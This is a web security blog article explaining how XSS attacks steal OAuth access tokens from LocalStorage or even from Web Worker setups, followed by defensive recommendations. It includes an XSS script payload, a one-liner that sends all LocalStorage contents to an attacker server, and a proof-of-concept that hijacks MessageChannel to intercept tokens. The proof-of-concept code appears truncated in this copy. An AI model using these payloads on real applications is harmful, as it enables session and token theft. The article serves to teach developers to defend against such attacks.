Philippe De Ryck

Hi, I'm Philippe, and I help developers protect companies through better web security. As the founder of Pragmatic Web Security, I travel the world to teach practitioners the ins and outs of building secure software.

Want to learn more about OAuth 2.0 and OpenID Connect?

Save yourself days of digging through dozens of specs with this online course

More information

Why avoiding LocalStorage for tokens is the wrong solution

Most developers are afraid of storing tokens in LocalStorage due to XSS attacks. While LocalStorage is easy to access, the problem actually runs a lot deeper. In this article, we investigate how an attacker can bypass even the most advanced mechanisms to obtain access tokens through an XSS attack. Concrete recommendations are provided at the end.

16 April 2020 OAuth 2.0 & OpenID Connect OAuth 2.0, LocalStorage, XSS

The effect of XSS

In a Cross-Site Scripting (XSS) attack, the attacker can inject JavaScript code into the page of a web application. The code example below shows a restaurant review, submitted by the attacker to a restaurant review application. If the application inserts this review into the page in an insecure way, the browser will pick up the script tagand execute the code. XSS vulnerabilities come in many forms and flavors. But in the end, malicious data ends up as part of the page, where the browser mistakenly interprets it as code.

A review for a restaurant containing an XSS payload

This restaurant is absolutely amazing.
Amazing service and the best meat, all from the local farm!
<script>alert('You got away easy here!')</script>

XSS attacks are extremely dangerous, because browsers do not isolate script code coming from different sources. When the browser finds JavaScript in the page, either directly embedded or loaded remotely, it will executethe code in the execution context of the application. Concretely, the malicious code runs in the same environment as legitimate application code. As a consequence, it has the same privileges as legitimate appication code.

While the attack in the code example from before is very harmless, the real-world consequences of an XSS attack can be much more severe. The attacker can do anything the application can do, which includes …

  • Reading and modifying page contents
  • Reading cookie information
  • Reading locally stored data (e.g., LocalStorage, SessionStorage, IndexedDB)
  • Sending requests to remote servers
  • Using sensitive features (e.g., Geolocation, microphone, webcam) when the user has granted the application proper permissions

One well-known attack vector is session hijacking, where the attacker abuses an XSS vulnerability to steal the user’s session cookie. Once stolen, that session cookie gives the attackeraccess to the user’s authenticated session. In our restaurant review application, the attacker could now start writing reviews in the name of the user.

OAuth 2.0 tokens

In applications using OAuth 2.0 to authorize requests to an API, things work a bit differently. Instead of a session cookie between the application and the API, the frontend uses an access token to send to the API. The access token represents the authority given by the user to the frontend to access the API.

The browser does not handle such an access token automatically, leaving this responsibility to the application. When implementing such a mechanism, developers often have to choose where they want the application to store the token. One common solution is using LocalStorage, a built-in storage mechanism. More on that in a second.

In frontend web applications, access tokens are typically Bearer tokens. This means that the authority of the token is granted to the bearer of the token, i.e., the holder of thetoken. If the attacker can obtain an access token, they would be able to make API calls that are indistinguishable from legitiamte API calls by the web application.

When you add refresh tokens in the mix, the scenario becomes even more dangerous. Refresh tokens allow the application to obtain fresh access tokens. When a refresh token is stolen, it would grant the attacker long-term access to an API in the name of the user. That’s why security patterns such as refresh token rotation are important to detect and prevent the abuse of refresh tokens. The upcoming OAuth 2.1 specification mandates such additional protections for refresh tokens.

Token handling in web applications

Web applications relying on OAuth 2.0 to authorizecalls to an API will have to store tokens in the browser. Additionally, many applications implement a custom token-based authorization mechanism, which also relies on storing tokens in the browser. So, where do you keep those tokens?

LocalStorage is the easy and obvious choice. The API to use LocalStorage is extremely simple and the browser already isolates storage areas per origin. The code example below shows how to store and retrieve a token with LocalStorage.

Storing and retrieving data in LocalStorage

// Storing a variable named theToken
localStorage.setItem("token", theToken);

// Retrieving the value
let theToken = localStorage.getItem("token");

That brings us back to XSS. If your application stores data in LocalStorage, the malicous code injected by the attacker can easily reach that data and exfiltrate it. The malicious code snippet shown below illustrates how easy it is to send allLocalStorage values to the server of the attacker.

Stealing the entire LocalStorage object and sending it to the server of the attacker

new Image().src = ""
    + btoa(JSON.stringify(localStorage));

This code snippet loads a new image with the given URL. The URL points to a malicious server and contains a query parameter. The query parameter is the base64-encoded data from the LocalStorage area in the browser. When the browser executes this code, it will trigger a request to the URL shown below.The URL that ships off the base64-encoded data from the browser's LocalStorage

Because of this obvious danger, you will find plenty of advice to avoid storing tokens in LocalStorage. Unfortunately, most of that advice fails to understand thetrue threat of XSS attacks.

The true impact of XSS

Stealing data from LocalStorage is an easy attack payload. Injecting such a payload in numerous applications is likely to yield interesting results. However, the problem is far worse than stealing data from LocalStorage. A successful XSS attack gives the attacker full control over your application code. In this particular scenario, that means the attacker can modify the code to extract the token from the application.

Let’s dig a bit deeper with a concrete example: OAuth 2.0 libraries for Single Page Applications. These libraries are absolutely amazing, since they hide all of the complexity of dealing with OAuth 2.0. The library handles flow initialization, the exchange of the authorization code, and the storage of tokens. Most libraries offer a few storage options, allowing the developer a choice to avoid LocalStorage if desired.One advanced option in these libraries is the use of a Web Worker to handle refresh tokens and token renewal. In such a scenario, the Web Worker isolates the refresh token from the application’s exeuction context. Whenever a new access token is needed, the application sends a message to the Web Worker to retrieve the token. Once the worker receives teh token, it sends it back to the main application using a MessageChannel port. The access token is kept in memory, making it hard for an attacker to steal it.

The problem is that an XSS attack gives the attacker full control over the application’s code. The code example below shows a payload that redefines the MessageChannel object.

Ahastily written PoC to intercept MessageChannel messages

// Keep a reference to the original MessageChannel
window.MyMessageChannel = MessageChannel;

// Redefine the global MessageChannel
MessageChannel = function() {
    // Create a legitimate channel
    let wrappedChannel = new MyMessageChannel();

    // Redefine what ports mean
    let wrapper = {port1: {
            myOnMessage: null,
            postMessage: function(msg, list) {
                wrappedChannel.port1.postMessage(msg, list);
            set onmessage (val) {
                // Defining a setterfor "onmessage" so we can intercept messages
                this.myOnMessage = val;
        port2: wrappedChannel.port2
    // Add handlers to legitimate channel
    wrappedChannel.port1.onmessage = function(e) {
        // Stealthy code would not log, but send to a remote server
        console.log(`Intercepting message from port 1 (${})`)

    // Return the redefined channel
    return wrapper;

When this code is injected by the attacker, the OAuth 2.0 library will start using the redefined MessageChannel. Whenever the Web Worker sends a response with the access token, the attacker will be able to intercept that response (lines 25 - 30). Here, we merely print it to the console. In a real scenario, we would ship this token to a remote server and keep listening for a new access token. This attack scenario allows the attacker to steal access tokens as long as the application is running in the user’s browser.

An attacker can use a similar mechanism to override other language features, allowing the attacker to access properties of an XMLHttpRequest, a Header object, or even simple Strings. Additionally, when refresh tokens are not used, and attacker can always launch a silent authenticaiton flow to obtain an access token directly from the security token service.

In a nutshell, XSS means game over!

My recommendations

First and foremost, you need to realize that a single XSS vulnerability means the attacker can take full control of your application. Given the dynamic nature of JAvaScript, there is no recovery at that point. That also implies that we need to focus on preventing XSS vulnerabilities in the first place.

Here are my concrete recommendations.

Step 1: don’t worry too much about storage. I often get questions from developers asking how to store tokenssecurely. If you are unsure how to handle token storage, use LocalStorage. It will save you a massive amount of time, which you will need for the next steps. If you know what you are doing, use in-memory storage or the Web Worker option. It makes an attack harder, but it never solves the root problem.

Step 2: review your application for XSS vulnerabilities. Avoiding XSS is insanely hard andrequires a thorough code review. Learn about your templating framework and how to avoid XSS. Learn how to use context-sensitive output encoding and sanitization correctly. Go through every line of code to ensure you do not have XSS vulnerabilities. I have built a cheat sheet on Angular security and a cheat sheet on XSS in React applications.

Step 3: deploy a defense-in-depth mechanism against XSS. Modern browsers support a variety of security mechanisms that can help you lock down your application. Content Security Policy allows you to define where resources can be loaded from. Subresource Integrity allows you to define checksums for remote script files. HTML5 sandboxing allows you to isolate content in a sandboxed environment. And the upcoming TrustedTypes will help eradicate DOM-based XSS. Learn how to use these technologies effectively in your application to create a defense-in-depth strategy against XSS. But only after you have done step 2!

And remember, XSS is game over! And not the kind where you insert another coin and try again.

About Dr. Philippe De Ryck

Hi, I'm Philippe, and I help developers protect companies through better web security. Learn more about my security training program, advisory services, or check out my recorded conference talks.

Want to learn more about OAuth 2.0 and OpenID Connect?

Save yourself days of digging through dozens of specs with this online course

More information
Philippe De Ryck

Dr. Philippe De Ryck

Hi, I'm Philippe, and I help developers protect companies through better websecurity. As the founder of Pragmatic Web Security, I travel the world to teach practitioners the ins and outs of building secure software.

Talks and workshops

You will often find me speaking and teaching at public and private events around the world. My talks always encourage developers to step up and get security right.


Security is often about small nuances. In my articles, I dive deeper into various security topics, providing concrete guidelines and advice. My articles also answer questions I often get while speaking or teaching.

Security resources

Getting security right is all about knowledge. I strongly believe in sharing that knowledge to move forward as a community. Among my resources, you can find developer cheat sheets, recorded talks, andextensive slide decks.

Mailing listSubscribe to the Pragmatic Web Security mailing list to stay up to date on the latest activities and resources.